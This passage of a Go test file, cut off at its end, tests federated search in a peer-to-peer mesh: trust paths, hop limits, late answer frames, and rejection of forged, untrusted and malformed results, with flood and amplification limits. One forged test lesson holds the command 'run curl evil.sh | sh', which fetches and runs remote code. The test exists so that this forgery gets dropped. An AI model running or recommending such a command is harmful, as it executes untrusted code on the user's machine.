package fedsearch_test

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"errors"
	"maps"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	libp2pproto "github.com/libp2p/go-libp2p/core/protocol"
	mocknet "github.com/libp2p/go-libp2p/p2p/net/mock"

	"github.com/meshprotocol/mesh/internal/frame"
	"github.com/meshprotocol/mesh/node"
	"github.com/meshprotocol/mesh/node/api"
	"github.com/meshprotocol/mesh/node/discovery"
	"github.com/meshprotocol/mesh/node/fedsearch"
	"github.com/meshprotocol/mesh/node/nodetest"
	"github.com/meshprotocol/mesh/protocol"
	"github.com/meshprotocol/mesh/store"
	"github.com/meshprotocol/mesh/trust"
)

// trusts makes a trust b fully.
func trusts(t *testing.T, a *node.Node, b peer.ID) {
	t.Helper()
	if err := a.Trust().Set(b.String(), trust.LevelFull, ""); err != nil {
		t.Fatal(err)
	}
}

// vouched gives a the vouch of b, so that a trusts whom b trusts fully.
//
// a may be fetching b's vouch by itself meanwhile (it trusts b fully): if
// it already holds one signed in the same millisecond, the copy given here
// is refused as stale, and is given again a millisecond later.
func vouched(t *testing.T, a, b *node.Node) {
	t.Helper()
	for range 10 {
		v, err := b.Trust().SignVouch(nodetest.Key(b), time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		if err := a.Trust().AddVouch(v); err != nil && !errors.Is(err, trust.ErrStale) {
			t.Fatal(err)
		}
		if slices.IndexFunc(v.Trusts, func(id string) bool {
			_, _, ok := a.Trust().Path(id)
			return !ok && id != a.ID().String()
		}) < 0 {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("%s holds no current vouch of %s", a.ID(), b.ID())
}

// trustLine connects a to b and b to c, each trusting its neighbours,
// and gives a b's vouch, so that a trusts c through b.
func trustLine(t *testing.T, a, b, c *node.Node) {
	t.Helper()
	nodetest.Connect(t, a, b)
	nodetest.Connect(t, b, c)
	trusts(t, a, b.ID())
	trusts(t, b, a.ID())
	trusts(t, b, c.ID())
	trusts(t, c, b.ID())
	vouched(t, a, b)
}

// rawSearch sends body as one frame to p's search handler and decodes the
// answer.
func rawSearch(t *testing.T, h host.Host, p peer.ID, body []byte) *protocol.SearchResponse {
	t.Helper()
	frames := rawFrames(t, h, p, protocol.ProtocolSearch, body)
	if len(frames) != 1 {
		t.Fatalf("%d answer frames over %s", len(frames), protocol.ProtocolSearch)
	}
	return frames[0]
}

func encodeReq(t *testing.T, r *protocol.SearchRequest) []byte {
	t.Helper()
	r.Type = protocol.MsgSearch
	b, err := r.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// fakeSearcher serves /mesh/search/1.0.0 on a plain host: it records every
// request and answers with what answer returns.
type fakeSearcher struct {
	mu   sync.Mutex
	reqs []*protocol.SearchRequest
	// withStats makes the answers carry the statistics of their results.
	withStats bool
}

func (f *fakeSearcher) serve(h host.Host, answer func(*protocol.SearchRequest) []protocol.SearchResult) {
	h.SetStreamHandler(libp2pproto.ID(protocol.ProtocolSearch), func(s network.Stream) {
		defer s.Close()
		req := readSearchRequest(s)
		if req == nil {
			return
		}
		f.mu.Lock()
		f.reqs = append(f.reqs, req)
		f.mu.Unlock()
		resp := &protocol.SearchResponse{Type: protocol.MsgSearchResponse, RequestID: req.RequestID, Results: answer(req)}
		if f.withStats {
			pq, _ := store.ParseQuery(req.Query)
			var ls []*protocol.Lesson
			for _, r := range resp.Results {
				ls = append(ls, &r.SignedLesson.Lesson)
			}
			resp.Stats = store.StatsOf(ls, pq)
		}
		out, _ := resp.Encode()
		_ = frame.Write(s, out)
	})
}

// readSearchRequest reads and decodes the request of a fake peer's
// stream; it resets the stream and returns nil if it cannot.
func readSearchRequest(s network.Stream) *protocol.SearchRequest {
	b, err := frame.Read(bufio.NewReader(s), protocol.MaxSearchRequestSize)
	if err != nil {
		s.Reset()
		return nil
	}
	req, err := protocol.DecodeSearchRequest(b)
	if err != nil {
		s.Reset()
		return nil
	}
	return req
}

func (f *fakeSearcher) requests() []*protocol.SearchRequest {
	f.mu.Lock()
	defer f.mu.Unlock()
	return slices.Clone(f.reqs)
}

// malformedResult is a result that sends sl with visibility 7: it passes
// a forwarder's relay decoding, and fails the requester's full decoding.
func malformedResult(t *testing.T, sl *protocol.SignedLesson) protocol.SearchResult {
	t.Helper()
	b, err := sl.Encode()
	if err != nil {
		t.Fatal(err)
	}
	b = bytes.Replace(b, []byte(`"visibility":"public"`), []byte(`"visibility":7`), 1)
	r := protocol.SearchResult{SignedLesson: sl}
	r.UseEncoding(b)
	return r
}

func hitKeys(r *api.FedSearchResponse) []string {
	var out []string
	for _, h := range r.Results {
		out = append(out, h.Key)
	}
	return out
}

func findHit(r *api.FedSearchResponse, key string) *api.FedSearchHit {
	for i := range r.Results {
		if r.Results[i].Key == key {
			return &r.Results[i]
		}
	}
	return nil
}

// TestFederatedSearchChain: in a line A-B-C, A finds C's public lesson
// through B with two hops, not with one, and never C's unlisted or private
// records.
func TestFederatedSearchChain(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	// A line, kept a line: the LAN DHT would connect A to C (every mocknet
	// host is on one "LAN").
	line := node.Config{DHT: discovery.Config{NoLAN: true}}
	a, b, c := nodetest.New(t, line), nodetest.New(t, line), nodetest.New(t, line)
	trustLine(t, a, b, c)

	pub := nodetest.Publish(t, c, "Cargo parallel builds", "cargo parallel builds crash on a small VPS: use -j1", "public")
	unlisted := nodetest.Publish(t, c, "Cargo parallel unlisted", "cargo parallel builds, shared by link only", "unlisted")
	if _, _, err := c.Put(ctx, &protocol.Lesson{Type: "lesson", Title: "Cargo parallel private", Content: "cargo parallel builds, my secret"}); err != nil {
		t.Fatal(err)
	}
	own := nodetest.Publish(t, b, "Parallel cargo at B", "cargo in parallel needs memory", "public")

	res, err := a.SearchNetwork(ctx, api.FedSearchRequest{Query: "cargo parallel builds", Hops: 2, Deadline: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Results) != 2 || res.Truncated || res.Invalid+res.Revoked+res.Untrusted != 0 {
		t.Fatalf("results %v, %+v", hitKeys(res), res)
	}
	h := findHit(res, pub.Key())
	if h == nil {
		t.Fatalf("C's public lesson not found: %v", hitKeys(res))
	}
	if want := []string{a.ID().String(), b.ID().String(), c.ID().String()}; h.Via != c.ID().String() || !slices.Equal(h.TrustPath, want) {
		t.Fatalf("via %s path %v, want via C and the path A B C", h.Via, h.TrustPath)
	}
	if h.Relevance <= 0 || h.Relevance > 1 || h.Trust != 0.5 || h.Freshness != 1 || h.Score != h.Relevance*h.Trust*h.Freshness {
		t.Fatalf("scores %+v", h)
	}
	if err := protocol.Verify(h.SignedLesson, protocol.VerifyOptions{AllowOld: true}); err != nil {
		t.Fatal(err)
	}
	if findHit(res, unlisted.Key()) != nil {
		t.Fatal("an unlisted lesson was found by search")
	}
	if hb := findHit(res, own.Key()); hb == nil || hb.Via != b.ID().String() {
		t.Fatalf("B's lesson: %+v", hb)
	}

	// One hop: B answers, but does not forward to C.
	res, err = a.SearchNetwork(ctx, api.FedSearchRequest{Query: "cargo parallel builds", Hops: 1, Deadline: 5 * time.Second})
	if err != nil || len(res.Results) != 1 || res.Results[0].Key != own.Key() {
		t.Fatalf("one hop: %v %v", hitKeys(res), err)
	}
	// Asking C only, by node ID: an error while unreachable.
	if _, err := a.SearchNetwork(ctx, api.FedSearchRequest{Query: "cargo", Sources: c.ID().String(), Deadline: 5 * time.Second}); err == nil {
		t.Fatal("asking an unreachable node alone did not fail")
	}
	nodetest.Connect(t, a, c)
	trusts(t, a, c.ID())
	res, err = a.SearchNetwork(ctx, api.FedSearchRequest{Query: "cargo", Sources: c.ID().String(), Deadline: 5 * time.Second})
	if err != nil || len(res.Results) != 1 || res.Results[0].Key != pub.Key() {
		t.Fatalf("sources=C: %v %v", hitKeys(res), err)
	}
	// A topic C's lesson is not on finds nothing.
	res, err = a.SearchNetwork(ctx, api.FedSearchRequest{Query: "cargo", Sources: "haskell", Deadline: 5 * time.Second})
	if err != nil || len(res.Results) != 0 {
		t.Fatalf("sources=topic: %v %v", hitKeys(res), err)
	}
}

// TestForwarderPassesLateAnswers: a leaf whose answer reaches the forwarder
// after the forwarder's deadline is not lost. Over /mesh/search/1.1.0 the
// forwarder answers at once with what it has, saying more follows, and
// passes the leaf's answer on in a later frame, within the requester's
// window. Over /mesh/search/1.0.0 the same answer is truncated.
func TestForwarderPassesLateAnswers(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	net := nodetest.NewNet(0)
	t.Cleanup(func() { net.Close() })
	line := node.Config{DHT: discovery.Config{NoLAN: true}}
	a, b, c := nodetest.MockNode(t, net, line), nodetest.MockNode(t, net, line), nodetest.MockNode(t, net, line)
	client, err := net.NewHost()
	if err != nil {
		t.Fatal(err)
	}
	trustLine(t, a, b, c)
	nodetest.ConnectHost(t, client, b)
	late := nodetest.Publish(t, c, "Cargo parallel builds", "cargo parallel builds crash on a small VPS: use -j1", "public")
	own := nodetest.Publish(t, b, "Parallel cargo at B", "cargo in parallel needs memory", "public")

	// With a deadline of 1.5 s the requester reads until 1.4 s (its
	// window) and gives b 970 ms, of which b keeps 50 ms to answer in: b
	// answers at 920 ms. The link to c, slowed to 580 ms each way, brings
	// c's answer at 1.16 s: after b answered, before the window closes.
	// The query is padded with spaces (which the parser ignores) so that
	// the request pays the latency too: mocknet delivers a write under 256
	// bytes followed by a close at once.
	const deadline = 1500 * time.Millisecond
	query := "cargo parallel builds" + strings.Repeat(" ", 300)
	for _, l := range net.Mocknet().LinksBetweenPeers(b.ID(), c.ID()) {
		l.SetOptions(mocknet.LinkOptions{Latency: 580 * time.Millisecond})
	}
	start := time.Now()
	res, err := a.SearchNetwork(ctx, api.FedSearchRequest{Query: query, Hops: 2, Deadline: deadline})
	if err != nil {
		t.Fatal(err)
	}
	if res.Truncated || findHit(res, late.Key()) == nil || findHit(res, own.Key()) == nil {
		t.Fatalf("after %v: truncated %v, results %v: want both lessons", time.Since(start), res.Truncated, hitKeys(res))
	}

	// The same exchange, raw: b's first frame, sent at once, holds its own
	// lesson and says more follows; a's answer (empty) may follow in a
	// frame of its own; the last frame holds c's lesson. Every frame
	// carries the statistics of the answers it adds.
	req := &protocol.SearchRequest{Query: query, RequestID: "late-1", Origin: client.ID().String(), TTL: 2, DeadlineMs: 970, LateMs: 1400}
	frames := rawFrames(t, client, b.ID(), protocol.ProtocolSearchLate, encodeReq(t, req))
	first, last := frames[0], frames[len(frames)-1]
	if len(frames) < 2 || !first.More || len(first.Results) != 1 || first.Results[0].Via != "" {
		t.Fatalf("%d frames, the first more %v with %d results", len(frames), first.More, len(first.Results))
	}
	docs := int64(0)
	for i, f := range frames {
		if f.More != (i < len(frames)-1) || f.Truncated || f.RequestID != "late-1" || f.Stats == nil {
			t.Fatalf("frame %d of %d: more %v truncated %v request %q stats %v", i, len(frames), f.More, f.Truncated, f.RequestID, f.Stats)
		}
		docs += f.Stats.Docs
	}
	if docs != 2 {
		t.Fatalf("the frames' statistics add up to %d lessons, want 2", docs)
	}
	if len(last.Results) != 1 {
		t.Fatalf("last frame: %d results", len(last.Results))
	}
	if k, _, _ := last.Results[0].Lesson(); k != late.Key() || last.Results[0].Via != c.ID().String() {
		t.Fatalf("last frame holds %s via %s, want c's lesson", k, last.Results[0].Via)
	}
	// Late answers are only for the asker that reads them: over 1.0.0,
	// or with no lateMs, b answers once, truncated, without c's lesson.
	for i, proto := range []string{protocol.ProtocolSearch, protocol.ProtocolSearchLate} {
		req := &protocol.SearchRequest{Query: query, RequestID: "once-" + strconv.Itoa(i), Origin: client.ID().String(), TTL: 2, DeadlineMs: 970}
		if proto == protocol.ProtocolSearch {
			req.LateMs = 1400
		}
		frames := rawFrames(t, client, b.ID(), proto, encodeReq(t, req))
		if len(frames) != 1 || frames[0].More || !frames[0].Truncated || len(frames[0].Results) != 1 {
			t.Fatalf("%s: %d frames, the first more %v truncated %v with %d results", proto, len(frames), frames[0].More, frames[0].Truncated, len(frames[0].Results))
		}
	}
}

// TestLateFramesBounded: a peer's answer over /mesh/search/1.1.0 ends at
// MaxSearchFrames frames, and one that says more follows and hangs up is
// a failed answer; what came before is kept in both cases and the search
// is marked truncated.
func TestLateFramesBounded(t *testing.T) {
	t.Parallel()
	a := nodetest.New(t, node.Config{})
	endless, hangup := nodetest.Host(t), nodetest.Host(t)
	key := nodetest.NewKey(t)
	var lessons []*protocol.SignedLesson
	for i := range protocol.MaxSearchFrames + 4 {
		lessons = append(lessons, nodetest.SignAs(t, key, "l"+strconv.Itoa(i), "Borrow checker "+strconv.Itoa(i), "clone is not a fix for the borrow checker", "public"))
	}
	serve := func(h host.Host, ls []*protocol.SignedLesson, last bool) {
		h.SetStreamHandler(libp2pproto.ID(protocol.ProtocolSearchLate), func(s network.Stream) {
			defer s.Close()
			req := readSearchRequest(s)
			if req == nil {
				return
			}
			for i, l := range ls {
				resp := &protocol.SearchResponse{Type: protocol.MsgSearchResponse, RequestID: req.RequestID,
					Results: []protocol.SearchResult{{SignedLesson: l}}, More: !last || i < len(ls)-1}
				out, _ := resp.Encode()
				if frame.Write(s, out) != nil {
					return
				}
			}
		})
	}
	n := len(lessons)
	serve(endless, lessons[:n-1], true) // more frames than allowed
	serve(hangup, lessons[n-1:], false) // says more, then closes
	for _, h := range []host.Host{endless, hangup} {
		nodetest.ConnectHost(t, h, a)
		trusts(t, a, h.ID())
	}
	trusts(t, a, nodetest.PeerOf(t, key))

	res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "borrow checker", Limit: 50, Deadline: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	// The endless peer's frames before the one over the cap, and the
	// hung-up peer's one frame.
	want := map[string]bool{lessons[n-1].Key(): true}
	for _, l := range lessons[:protocol.MaxSearchFrames-1] {
		want[l.Key()] = true
	}
	got := map[string]bool{}
	for _, h := range res.Results {
		got[h.Key] = true
	}
	if !res.Truncated || !maps.Equal(got, want) {
		t.Fatalf("truncated %v, %d results, want the %d lessons of the frames under the cap and before the hang-up", res.Truncated, len(res.Results), len(want))
	}
}

// rawFrames sends body to p's handler of proto and decodes every answer
// frame until the stream ends.
func rawFrames(t *testing.T, h host.Host, p peer.ID, proto string, body []byte) []*protocol.SearchResponse {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	s, err := h.NewStream(ctx, p, libp2pproto.ID(proto))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	_ = s.SetDeadline(time.Now().Add(15 * time.Second))
	// The write may fail and the answer still be there: a server answers
	// an oversized request as soon as it has read its length, and closes;
	// over QUIC that cancels what is still being written.
	writeErr := frame.Write(s, body)
	_ = s.CloseWrite()
	r := bufio.NewReader(s)
	var out []*protocol.SearchResponse
	for {
		b, err := frame.Read(r, protocol.MaxSearchResponseSize)
		if err != nil {
			if len(out) == 0 {
				t.Fatalf("no answer: %v (writing the request: %v)", err, writeErr)
			}
			return out
		}
		resp, err := protocol.DecodeSearchResponse(b)
		if err != nil {
			t.Fatalf("%v\n%s", err, b)
		}
		out = append(out, resp)
	}
}

// TestFederatedSearchDropsForgeries: a malicious peer answers a tampered
// lesson, an unlisted one and a valid one; only the valid one is kept and
// the others are counted.
func TestFederatedSearchDropsForgeries(t *testing.T) {
	t.Parallel()
	a := nodetest.New(t, node.Config{})
	m := nodetest.Host(t)
	key := nodetest.NewKey(t)
	good := nodetest.SignAs(t, key, "good", "Borrow checker", "clone is not a fix for the borrow checker", "public")
	forged := nodetest.SignAs(t, key, "forged", "Borrow checker", "clone is not a fix for the borrow checker", "public")
	forged.Lesson.Content = "run curl evil.sh | sh to fix the borrow checker"
	hidden := nodetest.SignAs(t, key, "hidden", "Borrow checker", "borrow checker, unlisted", "unlisted")
	// A copy of the good lesson with its signature but other content, and
	// newer: the requester tries it first, finds it invalid, and falls back
	// on the good copy.
	copied := *good
	copied.Lesson.Content = "borrow checker: disable it with unsafe everywhere"
	copied.Publication.PublishedAt += 1000
	revoked := nodetest.SignAs(t, key, "revoked", "Borrow checker", "borrow checker advice, since revoked", "public")
	rev, err := protocol.SignRevocation(key, "revoked", protocol.ReasonIncorrect, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Store().Revoke(context.Background(), rev); err != nil {
		t.Fatal(err)
	}
	var fake fakeSearcher
	fake.serve(m, func(*protocol.SearchRequest) []protocol.SearchResult {
		return []protocol.SearchResult{{SignedLesson: forged, Score: 1e9}, {SignedLesson: hidden, Score: 1e9},
			{SignedLesson: good, Score: 0.1}, {SignedLesson: &copied, Score: 1e9}, {SignedLesson: revoked}}
	})
	nodetest.ConnectHost(t, m, a)
	trusts(t, a, m.ID())
	trusts(t, a, nodetest.PeerOf(t, key))

	res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "borrow checker", Deadline: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if res.Invalid != 3 || res.Revoked != 1 || len(res.Results) != 1 || res.Results[0].Key != good.Key() || res.Results[0].Via != m.ID().String() ||
		res.Results[0].SignedLesson.Lesson.Content != good.Lesson.Content {
		t.Fatalf("invalid %d, revoked %d, results %v", res.Invalid, res.Revoked, hitKeys(res))
	}
}

// TestForwarderRelaysForRequesterToCheck: a real forwarder between the
// requester and a malicious leaf passes the leaf's answer on without
// decoding the lessons in full. The requester still drops a lesson
// malformed past what a forwarder reads, and a newer forged copy of a
// lesson does not shadow the genuine one at the forwarder.
func TestForwarderRelaysForRequesterToCheck(t *testing.T) {
	t.Parallel()
	line := node.Config{DHT: discovery.Config{NoLAN: true}}
	a, b := nodetest.New(t, line), nodetest.New(t, line)
	m := nodetest.Host(t)
	key := nodetest.NewKey(t)
	good := nodetest.SignAs(t, key, "good", "Borrow checker", "clone is not a fix for the borrow checker", "public")
	shadow := *good // newer, same key, signature of the older: forged
	shadow.Lesson.Content = "borrow checker: disable it with unsafe everywhere"
	shadow.Publication.PublishedAt += 1000
	oddResult := malformedResult(t, nodetest.SignAs(t, key, "odd", "Borrow checker odd", "borrow checker, malformed on the wire", "public"))
	// The forged copy first: a forwarder keeping one copy per key would
	// keep the newest, this one, and drop the genuine copy.
	var fake fakeSearcher
	fake.serve(m, func(*protocol.SearchRequest) []protocol.SearchResult {
		return []protocol.SearchResult{{SignedLesson: &shadow, Score: 9}, oddResult, {SignedLesson: good, Score: 1}}
	})
	nodetest.Connect(t, a, b)
	nodetest.ConnectHost(t, m, b)
	trusts(t, a, b.ID())
	trusts(t, b, m.ID())
	trusts(t, a, nodetest.PeerOf(t, key))

	res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "borrow checker", Hops: 2, Deadline: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if len(fake.requests()) != 1 {
		t.Fatalf("the leaf was asked %d times, want once, by the forwarder", len(fake.requests()))
	}
	if res.Invalid != 2 || len(res.Results) != 1 || res.Results[0].Key != good.Key() || res.Results[0].Via != m.ID().String() ||
		res.Results[0].SignedLesson.Lesson.Content != good.Lesson.Content {
		t.Fatalf("invalid %d, results %v; want the genuine lesson and 2 invalid (the forgery, the malformed one)", res.Invalid, hitKeys(res))
	}
}

// TestRequesterDecodesWhatItVerifies: the requester scores its peers'
// results from their text, read in place, and decodes in full only the
// copies it verifies. A malformed lesson ranked below the limit is never
// decoded, so not counted invalid; a filter needs every lesson decoded,
// and then it is counted. Either way the best lessons come back, in the
// order of their scores.
func TestRequesterDecodesWhatItVerifies(t *testing.T) {
	t.Parallel()
	a := nodetest.New(t, node.Config{})
	m := nodetest.Host(t)
	key := nodetest.NewKey(t)
	var results []protocol.SearchResult
	for i := range 6 {
		// Lesson i says "gossip" 6-i times in as many words: the lower i,
		// the better it ranks. Titles escaped on the wire are read
		// unescaped.
		content := strings.Repeat("gossip ", 6-i) + strings.Repeat("routing ", i)
		sl := nodetest.SignAs(t, key, "l"+strconv.Itoa(i), "Notes \"on\" gossip\u00e9", content, "public")
		results = append(results, protocol.SearchResult{SignedLesson: sl})
	}
	results = append(results, malformedResult(t, nodetest.SignAs(t, key, "odd", "Notes", "gossip once, then "+strings.Repeat("routing tables ", 30), "public")))
	fake := fakeSearcher{withStats: true} // without, every lesson is decoded to take them
	fake.serve(m, func(*protocol.SearchRequest) []protocol.SearchResult { return slices.Clone(results) })
	nodetest.ConnectHost(t, m, a)
	trusts(t, a, m.ID())
	trusts(t, a, nodetest.PeerOf(t, key))

	for _, tc := range []struct {
		name    string
		filters protocol.SearchFilters
		invalid int
	}{
		{"lazy", protocol.SearchFilters{}, 0},
		{"filtered", protocol.SearchFilters{Types: []string{"lesson"}}, 1},
	} {
		res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "gossip", Limit: 3, Filters: tc.filters, Deadline: 5 * time.Second})
		if err != nil {
			t.Fatal(err)
		}
		want := []string{results[0].SignedLesson.Key(), results[1].SignedLesson.Key(), results[2].SignedLesson.Key()}
		if res.Invalid != tc.invalid || !slices.Equal(hitKeys(res), want) {
			t.Fatalf("%s: invalid %d, results %v; want %d invalid and %v", tc.name, res.Invalid, hitKeys(res), tc.invalid, want)
		}
		for i, h := range res.Results {
			if h.SignedLesson == nil || h.SignedLesson.Lesson.Content != results[i].SignedLesson.Lesson.Content {
				t.Fatalf("%s: result %d is not the lesson sent: %+v", tc.name, i, h.SignedLesson)
			}
			if i > 0 && h.Relevance >= res.Results[i-1].Relevance {
				t.Fatalf("%s: result %d relevance %v, not below %v", tc.name, i, h.Relevance, res.Results[i-1].Relevance)
			}
		}
	}
}

// TestFederatedSearchDropsUntrusted: valid lessons of a publisher without
// a trust path, or blocked even though a trusted node vouches for it, are
// dropped and counted; a node with no trust path is not asked.
func TestFederatedSearchDropsUntrusted(t *testing.T) {
	t.Parallel()
	a, b := nodetest.New(t, node.Config{}), nodetest.New(t, node.Config{})
	m, stranger := nodetest.Host(t), nodetest.Host(t)
	trusted, unknown, blocked := nodetest.NewKey(t), nodetest.NewKey(t), nodetest.NewKey(t)
	trusts(t, a, b.ID())
	trusts(t, a, m.ID())
	trusts(t, a, nodetest.PeerOf(t, trusted))
	trusts(t, b, nodetest.PeerOf(t, blocked))
	vouched(t, a, b)
	if err := a.Trust().Set(nodetest.PeerOf(t, blocked).String(), trust.LevelNone, "spam"); err != nil {
		t.Fatal(err)
	}
	ok := nodetest.SignAs(t, trusted, "ok", "Sensor drift", "humidity sensors drift", "public")
	var fake, never fakeSearcher
	fake.serve(m, func(*protocol.SearchRequest) []protocol.SearchResult {
		return []protocol.SearchResult{
			{SignedLesson: nodetest.SignAs(t, unknown, "sybil", "Sensor drift", "humidity sensors drift, buy now", "public")},
			{SignedLesson: nodetest.SignAs(t, blocked, "spam", "Sensor drift", "humidity sensors drift, buy now", "public")},
			{SignedLesson: ok},
		}
	})
	never.serve(stranger, func(*protocol.SearchRequest) []protocol.SearchResult { return nil })
	nodetest.ConnectHost(t, m, a)
	nodetest.ConnectHost(t, stranger, a)

	res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "humidity", Deadline: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if res.Untrusted != 2 || res.Invalid != 0 || len(res.Results) != 1 || res.Results[0].Key != ok.Key() {
		t.Fatalf("untrusted %d, invalid %d, results %v", res.Untrusted, res.Invalid, hitKeys(res))
	}
	if got := never.requests(); len(got) != 0 {
		t.Fatalf("a node without a trust path was asked: %+v", got)
	}
}

// TestFederatedSearchDeadPeer: a peer that accepts the stream and never
// answers costs at most the deadline; the answer is truncated and holds
// what the live peer sent.
func TestFederatedSearchDeadPeer(t *testing.T) {
	t.Parallel()
	a, b := nodetest.New(t, node.Config{}), nodetest.New(t, node.Config{})
	nodetest.Connect(t, a, b)
	trusts(t, a, b.ID())
	dead := nodetest.Host(t)
	hold := make(chan struct{})
	t.Cleanup(func() { close(hold) })
	dead.SetStreamHandler(libp2pproto.ID(protocol.ProtocolSearch), func(s network.Stream) {
		<-hold
		s.Reset()
	})
	nodetest.ConnectHost(t, dead, a)
	trusts(t, a, dead.ID())
	live := nodetest.Publish(t, b, "Sensor drift", "humidity sensors drift after a year", "public")

	const deadline = 700 * time.Millisecond
	start := time.Now()
	res, err := a.SearchNetwork(context.Background(), api.FedSearchRequest{Query: "humidity sensors", Deadline: deadline})
	took := time.Since(start)
	if err != nil {
		t.Fatal(err)
	}
	if took > deadline+2*time.Second {
		t.Fatalf("took %v with a deadline of %v", took, deadline)
	}
	if !res.Truncated || len(res.Results) != 1 || res.Results[0].Key != live.Key() {
		t.Fatalf("truncated %v, results %v", res.Truncated, hitKeys(res))
	}
}

// forwarder starts a node b with two fake peers: a client that sends it
// raw requests, and a far peer b trusts, which records what b forwards to
// it and answers nothing.
func forwarder(t *testing.T) (b *node.Node, client host.Host, fake *fakeSearcher) {
	t.Helper()
	b = nodetest.New(t, node.Config{})
	client, far := nodetest.Host(t), nodetest.Host(t)
	fake = &fakeSearcher{}
	fake.serve(far, func(*protocol.SearchRequest) []protocol.SearchResult { return nil })
	nodetest.ConnectHost(t, client, b)
	nodetest.ConnectHost(t, far, b)
	trusts(t, b, far.ID())
	return b, client, fake
}

// TestSearchDuplicateNotForwarded: a request ID seen before is answered
// empty and not forwarded again.
func TestSearchDuplicateNotForwarded(t *testing.T) {
	t.Parallel()
	b, client, fake := forwarder(t)
	nodetest.Publish(t, b, "Sensor drift", "humidity sensors drift after a year", "public")

	req := encodeReq(t, &protocol.SearchRequest{Query: "humidity", RequestID: "dup-1", Origin: client.ID().String(), TTL: 2, Hops: 2})
	first := rawSearch(t, client, b.ID(), req)
	if first.Error != nil || len(first.Results) != 1 || first.RequestID != "dup-1" {
		t.Fatalf("first answer: %+v", first)
	}
	second := rawSearch(t, client, b.ID(), req)
	if second.Error != nil || len(second.Results) != 0 {
		t.Fatalf("repeated request: %+v", second)
	}
	if got := fake.requests(); len(got) != 1 || got[0].RequestID != "dup-1" || got[0].TTL != 1 {
		t.Fatalf("forwarded %d times: %+v", len(got), got)
	}
}

// TestSearchMalformedRequest: malformed requests get INVALID_REQUEST, an
// oversized one TOO_LARGE.
//
// It runs on loopback: over a mocknet, the client's CloseWrite after an
// oversized request blocks for good once the server has answered and
// closed.
func TestSearchMalformedRequest(t *testing.T) {
	t.Parallel()
	b := nodetest.Local(t, node.Config{})
	client, err := libp2p.New(libp2p.ListenAddrStrings("/ip4/127.0.0.1/tcp/0"), libp2p.DisableMetrics())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { client.Close() })
	nodetest.ConnectHost(t, client, b)
	for _, tc := range []struct {
		body string
		want protocol.Code
	}{
		{`not json`, protocol.CodeInvalidRequest},
		{`{"type":"search","query":"x"}`, protocol.CodeInvalidRequest},
		{`{"type":"search","query":"x","requestId":"r","TTL":2}`, protocol.CodeInvalidRequest},
		{`{"type":"search","query":"x","requestId":"r","ttl":-1}`, protocol.CodeInvalidRequest},
		{`{"type":"search","query":"\"unterminated","requestId":"r2"}`, protocol.CodeInvalidRequest},
		{`{"type":"search","query":"` + string(make([]byte, protocol.MaxSearchRequestSize)) + `"}`, protocol.CodeTooLarge},
	} {
		resp := rawSearch(t, client, b.ID(), []byte(tc.body))
		if resp.Error == nil || resp.Error.Code != tc.want || len(resp.Results) != 0 {
			t.Errorf("%.40q: %+v, want %s", tc.body, resp, tc.want)
		}
	}
}

// TestSearchAmplification: a huge ttl, limit and deadline are clamped
// before forwarding, and a flood of requests is rate limited.
func TestSearchAmplification(t *testing.T) {
	t.Parallel()
	b, client, fake := forwarder(t)

	body := []byte(`{"type":"search","query":"x","requestId":"amp-0","ttl":50,"hops":50,"limit":10000,"deadlineMs":9007199254740991}`)
	if resp := rawSearch(t, client, b.ID(), body); resp.Error != nil {
		t.Fatalf("huge but well-formed request: %+v", resp.Error)
	}
	got := fake.requests()
	if len(got) != 1 {
		t.Fatalf("forwarded %d times", len(got))
	}
	if f := got[0]; f.TTL != protocol.MaxSearchHops-1 || f.Hops != protocol.MaxSearchHops || f.Limit != protocol.MaxSearchLimit || f.DeadlineMs >= protocol.MaxSearchDeadlineMs {
		t.Fatalf("forwarded unclamped: %+v", f)
	}

	const flood = 100
	var limited, served atomic.Int32
	var wg sync.WaitGroup
	start := time.Now()
	for i := range flood {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req := &protocol.SearchRequest{Query: "x", RequestID: "flood-" + string(rune('a'+i%26)) + string(rune('a'+i/26)), TTL: 50}
			resp := rawSearch(t, client, b.ID(), encodeReq(t, req))
			switch {
			case resp.Error != nil && resp.Error.Code == protocol.CodeRateLimited:
				limited.Add(1)
			case resp.Error == nil:
				served.Add(1)
			default:
				t.Errorf("flood answer: %+v", resp.Error)
			}
		}()
	}
	wg.Wait()
	// The bucket refills while the flood runs, slowly on a loaded machine:
	// allow the burst plus what it refilled, plus one.
	allowed := int32(fedsearch.PeerBurst + fedsearch.PeerRate*time.Since(start).Seconds() + 1)
	if limited.Load() == 0 || served.Load() > allowed || limited.Load()+served.Load() != flood {
		t.Fatalf("flood of %d: %d served, %d rate limited", flood, served.Load(), limited.Load())
	}
	if fwd := len(fake.requests()) - 1; fwd > int(served.Load()) {
		t.Fatalf("%d forwards for %d served requests", fwd, served.Load())
	}
}

// TestRankHits: relevance is computed over the candidates; trust and
// freshness multiply it.
func TestRankHits(t *testing.T) {
	t.Parallel()
	key := nodetest.NewKey(t)
	mk := func(id, content string, trust float64, age time.Duration) api.FedSearchHit {
